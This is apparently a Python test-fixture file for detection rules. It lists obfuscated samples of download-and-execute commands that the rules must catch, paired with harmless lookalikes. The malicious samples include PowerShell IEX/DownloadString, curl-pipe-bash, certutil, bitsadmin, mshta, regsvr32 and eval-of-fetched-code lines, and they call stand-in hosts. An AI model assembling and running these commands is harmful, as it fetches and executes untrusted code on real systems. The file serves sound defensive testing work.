"""Samples of programs that run what they download, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-DNR-0001": [
        joined(
            "power¦shel¦l -w¦ h¦idden -ep b¦ypass -c "
            "\"IE¦X (New-O¦bject Net.We¦bClient).DownloadString('http://x.invalid/a')\""
        ),
        joined('power¦shell -windowst¦yle hidde¦n -c "iw¦r h¦t¦t¦p://x.i¦n¦v¦a¦l¦i¦d/a | iex"'),
    ],
    "RG-DNR-0002": [
        joined("power¦sh¦ell.exe -n¦op -w¦ h¦idden -en¦c §b200§"),
    ],
    "RG-DNR-0003": [
        joined("echo '§b200§' | b¦as¦e¦6¦4 -d | bash\n"),
    ],
    "RG-DNR-0004": [
        joined("cu¦rl -s h¦ttp://192.0.2.1/a -o /tm¦p/.x; chmod +x /tmp/.x; nohu¦p /tmp/.x &\n"),
    ],
    "RG-DNR-0005": [
        joined(
            'Set h = CreateObject("MSXML2.X¦ML¦HTTP")\r\n'
            'h.Open "GET", "http://x.invalid/a", False\r\n'
            "h.Send\r\n"
            'Set s = CreateObject("ADODB.S¦tream")\r\n'
            "s.Write h.responseBody\r\n"
            's.Save¦ToFile "a.exe", 2\r\n'
            'CreateObject("WSc¦r¦ip¦t.Shell").R¦u¦n "a.exe"\r\n'
        ),
        joined(
            "var h = new Active¦XObject('Microsof¦t.XML¦HTTP'); s.Save¦ToFile('a.exe');\n"
            "new Active¦XObject('WSc¦r¦ip¦t.Shell').R¦u¦n('a.exe');\n"
        ),
    ],
    "RG-DNR-0006": [
        joined('ev¦al(at¦o¦b("§b200§"));'),
        joined(
            "new Function(unescape('%41%41%41%41%41%41%41"
            "%41%41%41%41%41%4¦1%41%41%41%41%41%41%41%41%"
            "41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%41%4"
            "1%41%41%41%41%41%41%41%41%41'))();"
        ),
        joined("ev¦al(Buffer.fro¦m('§b200§', 'bas¦e64').toString())"),
    ],
    "RG-DNR-0007": [
        joined(
            'power¦shell -w¦ h¦idden -c "(New-Objec¦t '
            "Net.WebClient).DownloadFil¦e('h¦t¦t¦p://x.i¦"
            "n¦v¦a¦l¦i¦d/a', $e¦n¦v:T¦E¦M¦P + '\\\\a.e¦x¦e'); S¦t¦a¦r¦t-P¦r¦o¦c¦e¦ss $env:TEMP\\\\a.exe\""
        ),
    ],
    "RG-DNR-0008": [
        joined("cu¦rl -s h¦ttp://19¦2.0.2.7/i.sh | bash\n"),
        joined("wg¦et -qO- https://19¦2.0.2.7:8443/x | sudo python3\n"),
    ],
    "RG-DNR-0009": [
        joined("cu¦rl -s h¦ttps://pastebi¦n.com/raw/AAAA1111 | bash\n"),
        joined("ir¦m h¦t¦t¦p¦s://a¦b¦c¦d.n¦g¦r¦o¦k.i¦o/x | iex\n"),
    ],
    "RG-DNR-0010": [
        joined(
            "wg¦et http://x.invalid/b.mips -O b; chmod 777 b; ./b\n"
            "w¦g¦et http://x.invalid/b.arm7 -O b; chmod 777 b; ./b\n"
            "w¦g¦et http://x.invalid/b.s¦h4 -O b; chmod 777 b; ./b\n"
        ),
    ],
    "RG-DNR-0011": [
        joined("cert¦util.exe -urlcac¦he -split -f http://x.invalid/a.txt a.exe\r\n"),
        joined("cert¦util -deco¦de a.txt b.exe\r\n"),
    ],
    "RG-DNR-0012": [
        joined("bits¦admin /transfer j /download /prior¦ity high http://x.invalid/a.exe %TEMP%\\a.exe\r\n"),
    ],
    "RG-DNR-0013": [
        joined("ms¦hta h¦ttp://x.invalid/a.hta"),
        joined('ms¦hta.exe "j¦avascript:close()"'),
    ],
    "RG-DNR-0014": [
        joined("regs¦vr32 /s /n /u /i:htt¦p://x.invalid/a.sct scrobj.dll"),
    ],
    "RG-DNR-0015": [
        joined('rund¦ll32.ex¦e javascript:"\\..\\mshtml,RunHTMLApplication ";close();'),
        joined("rund¦ll32 url.dll,Open¦URL file://C:\\x\\a.hta"),
    ],
    "RG-DNR-0016": [
        joined('wmic os get /f¦ormat:"http://x.invalid/a.xsl"'),
        joined("msiexe¦c /q /i h¦ttp://192.0.2.1/a.msi"),
    ],
    "RG-DNR-0017": [
        joined("exec(urllib.re¦que¦st.urlo¦pen('https://x.invalid/a').read())\n"),
        joined("os.syst¦em('cu¦rl -s h¦t¦tp¦s://x.i¦nvalid/a | sh')\n"),
        joined("python3 -c \"import urllib.r¦equest as u; e¦xec(u.u¦rl¦o¦pen('http://x.invalid').read())\"\n"),
    ],
    "RG-DNR-0018": [
        joined("ev¦al(await (awa¦it fetc¦h('https://x.invalid/a')).text())"),
        joined("fetc¦h('https://x.invalid/a').t¦hen(r => r.text()).then(eval)"),
        joined("exec¦Sync('cu¦rl -s h¦ttp¦s://x.i¦nvalid/a | bash')"),
    ],
    "RG-DNR-0019": [
        joined("ev¦al(Ne¦t::HTTP.ge¦t(URI.parse('https://x.invalid/a')))"),
        joined("<?p¦hp ev¦al('?>' . file_g¦et_contents('https://x.invalid/a'));"),
        joined("eval ge¦t('https://x.invalid/a');"),
    ],
    "RG-DNR-0020": [
        joined("IE¦X (New-O¦bject Net.We¦bClient).Down¦loadString('h¦ttp://x.invalid/a.ps1')\r\n"),
        joined("$a = 1; iw¦r h¦ttps://192.0.2.7/a -UseBasicParsing | ie¦x\n"),
    ],
    "RG-DNR-0021": [
        joined("IE¦X (New-O¦bject Net.We¦bClient).Down¦loadString('h¦ttps://x.invalid/a.ps1')\r\n"),
        joined("$ErrorActionPreference = 'Stop'\nir¦m h¦ttps://x.invalid/a | ie¦x\n"),
    ],
    "RG-DNR-0022": [
        joined("cu¦rl -s h¦ttp://x.invalid/a | ba¦sh\n"),
        joined('ba¦sh -c "$(cu¦rl -fsSL h¦ttp://x.invalid/a)"\n'),
        joined("ba¦sh <(cu¦rl -s h¦ttp://x.invalid/a)\n"),
        joined("source <(wg¦et -qO- h¦ttp://x.invalid/a)\n"),
        joined("ev¦al `wg¦et -qO- h¦ttps://192.0.2.1/a`\n"),
    ],
    "RG-DNR-0023": [
        joined("os.sys¦tem('wg¦et h¦ttp://x.invalid/a -O /tmp/a; chm¦od +x /tmp/a; /tmp/a')\n"),
        joined("load(requ¦ire('socket.h¦ttp').request('h¦ttp://x.invalid/a'))()\n"),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-DNR-0001": [
        joined("Invoke-W¦ebRequest https://example.org/a.zip -OutFile a.zip\n"),
        joined("power¦sh¦ell -ExecutionP¦olicy Bypass -File build.ps1\n"),
    ],
    "RG-DNR-0002": [
        joined("power¦shell -Win¦dowSt¦yle Hidden -File a.ps1\n"),
        joined("data: §b200§\n"),
    ],
    "RG-DNR-0003": [
        joined("echo '§b200§' | bas¦e¦64 -d > picture.png\n"),
        joined("echo aGk= | bas¦e¦64 -d\n"),
    ],
    "RG-DNR-0004": [
        joined("cu¦rl -fsS¦L https://example.org/a.tar.gz -o /tmp/a.tar.gz; tar xf /tmp/a.tar.gz\n"),
    ],
    "RG-DNR-0005": [
        joined('Set h = CreateObject("MSXML2.X¦ML¦HTTP")\r\nh.Open "GET", "x", False\r\nMsgBox h.responseText\r\n'),
    ],
    "RG-DNR-0006": [
        joined('const picture = at¦ob("§b200§"); show(picture);'),
        joined('ev¦al(at¦ob("MSsx"))'),
    ],
    "RG-DNR-0007": [
        joined("Invoke-W¦ebRequest https://exampl¦e.org/setup.exe -OutFile $env:TEMP\\\\setup.exe\n"),
        joined("Start-Process notepa¦d -WindowSt¦yle Hidden\n"),
    ],
    "RG-DNR-0008": [
        joined("cu¦rl -s h¦ttp://192.0.2.7/status | grep ok\n"),
        joined("cu¦rl -sS¦f https://s¦h.example.org | sh\n"),
    ],
    "RG-DNR-0009": [
        joined("cu¦rl -s h¦ttps://pastebin.com/raw/AAAA1111 > notes.txt\n"),
    ],
    "RG-DNR-0010": [
        joined("wg¦et https://example.org/tool-x86_6¦4 -O tool; chmod +x tool; ./tool\n"),
    ],
    "RG-DNR-0011": [
        joined("cert¦util -hashfile setup.exe SHA256\r\n"),
        joined("cert¦util -decode cert.b64 cert.cer\r\n"),
    ],
    "RG-DNR-0012": [
        joined("bits¦admin /list /allusers\r\n"),
        joined("bits¦admin /transfer j https://example.org/a.zip D:\\mirror\\a.zip\r\n"),
    ],
    "RG-DNR-0013": [
        joined("ms¦hta.exe runs HTML app¦lications; see https://example.org"),
        joined("ms¦hta report.hta"),
    ],
    "RG-DNR-0014": [
        joined("regs¦vr32 /s /i:user codec.dll"),
    ],
    "RG-DNR-0015": [
        joined("rund¦ll32 shell32.dll,Control_RunDLL desk.cpl"),
        joined("rund¦ll32 url.dll,FileProtocolHandler https://example.org/"),
    ],
    "RG-DNR-0016": [
        joined("wmic os get caption /format:list"),
        joined("msiexec /i setup.msi /qn"),
        joined("msiexec /q¦n /i h¦ttps://download.example.org/a.msi"),
    ],
    "RG-DNR-0017": [
        joined("data = urllib.request.urlo¦pen('https://example.org/a').read()\n"),
        joined("os.syst¦em('cu¦rl -s¦O https://example.org/a.zip')\n"),
    ],
    "RG-DNR-0018": [
        joined("const t = await (await fetc¦h('https://example.org/a')).text()"),
        joined("fetc¦h('https://example.org/a').then(r => r.json()).then(show)"),
    ],
    "RG-DNR-0019": [
        joined("text = Net::HTTP.get(URI.parse('https://example.org/a'))"),
        joined("<?p¦hp echo file_get_contents('https://example.org/a');"),
    ],
    "RG-DNR-0020": [
        joined("IE¦X (New-O¦bject Net.We¦bClient).Down¦loadString('h¦ttps://example.org/install.ps1')\r\n"),
        joined("Invoke-We¦bRequest http://192.0.2.7/a.zip -OutFile a.zip\niex $command\n"),
    ],
    "RG-DNR-0021": [
        joined("# Installation\n\n```powershell\nir¦m h¦ttps://example.org/install.ps1 | ie¦x\n```\n"),
        joined("<pre>ir¦m h¦ttps://example.org/install.ps1 | ie¦x</pre>\n"),
        joined("Run ir¦m h¦ttps://example.org/install.ps1 | ie¦x in a terminal.\n"),
    ],
    "RG-DNR-0022": [
        joined('ba¦sh -c "$(cu¦rl -fsSL h¦ttps://example.org/install.sh)"\n'),
        joined("cu¦rl -s http://example.org/data.json | jq .\n"),
        joined("source <(kubectl completion bash)\n"),
    ],
    "RG-DNR-0023": [
        joined("os.sys¦tem('chmod +x build/tool')\nsubprocess.run(['cu¦rl', url])\n"),
        joined("local body = require('socket.h¦ttp').request(url)\n"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
